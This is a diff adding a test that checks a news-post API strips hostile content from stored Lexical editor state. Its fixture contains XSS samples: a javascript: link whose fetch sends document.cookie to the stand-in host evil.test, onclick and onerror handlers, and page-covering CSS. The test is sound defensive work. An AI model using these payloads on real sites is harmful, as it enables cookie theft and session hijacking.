@@ -196,6 +196,52 @@ describe('news posts', () => {
   });
 });
 
+describe("a post's stored Lexical state, which other writers' editors open", () => {
+  it('keeps what the editor makes and drops what it would not: script links, foreign images, unknown nodes and fields, overlay styles', async () => {
+    const id = await channel();
+    const hostile = body(
+      {
+        type: 'paragraph',
+        onclick: 'steal()',
+        children: [
+          { ...text('big red'), style: 'font-size: 18px; color: #b91c1c; position: fixed; inset: 0; z-index: 99; background-image: url(https://evil.test/x.png)' },
+          { type: 'link', url: 'javascript:fetch(`//evil.test?${document.cookie}`)', children: [text('click me')] },
+          { type: 'link', url: 'https://example.com/route', target: '_top', children: [text('route')] },
+          { type: 'image', src: 'javascript:alert(1)', altText: 'x' },
+          { type: 'image', src: 'https://cdn.example.com/truck.png', altText: 'truck', width: 300, height: 200 },
+        ],
+      },
+      { type: 'iframe-embed', src: 'https://evil.test', children: [text('kept text')] },
+      { type: 'paragraph', children: [text('nested'), { type: 'mystery', nested: { deeper: { html: '<img onerror=x>' } } }] },
+    );
+    const res = await post(id, t.contributor, { body: hostile });
+    expect(res.status).toBe(201);
+    const stored = res.json.data.body;
+    const [first, second, third] = stored.root.children;
+    expect(first).not.toHaveProperty('onclick');
+    expect(first.children[0].style).toBe('font-size: 18px; color: #b91c1c');
+    // The script link keeps its words, unlinked; the web link keeps its address, not its target.
+    expect(first.children[1]).toMatchObject({ type: 'text', text: 'click me' });
+    expect(first.children[2]).toMatchObject({ type: 'link', url: 'https://example.com/route', target: null });
+    expect(first.children.filter((n: { type: string }) => n.type === 'image')).toEqual([
+      expect.objectContaining({ src: 'https://cdn.example.com/truck.png', width: 300, height: 200 }),
+    ]);
+    // An unknown block gives way to its text, in a paragraph (the root holds no bare text).
+    expect(second).toMatchObject({ type: 'paragraph', children: [{ type: 'text', text: 'kept text' }] });
+    expect(third.children).toEqual([expect.objectContaining({ type: 'text', text: 'nested' })]);
+    expect(JSON.stringify(stored)).not.toMatch(/javascript|evil\.test|onclick|onerror|position|mystery/);
+    // The HTML is rendered from the cleaned state: the two say the same.
+    expect(res.json.data.body_html).not.toMatch(/javascript|evil\.test|position/);
+    expect(res.json.data.body_html).toContain('kept text');
+
+    // The cleaned state is what the next editor gets, and saving it again changes nothing.
+    const reread = await call(getPostRoute, { token: t.contributor, params: { id: String(res.json.data.id) } });
+    expect(reread.json.data.body).toEqual(stored);
+    const again = await call(updatePostRoute, { token: t.contributor, params: { id: String(res.json.data.id) }, body: { body: stored }, method: 'PUT' });
+    expect(again.json.data.body).toEqual(stored);
+  });
+});
+
 describe('images, thumbnails, albums and PDF', () => {
   it('stores an uploaded image wider than 720 px at 720 and makes two thumbnails for the post', async () => {
     const id = await channel();
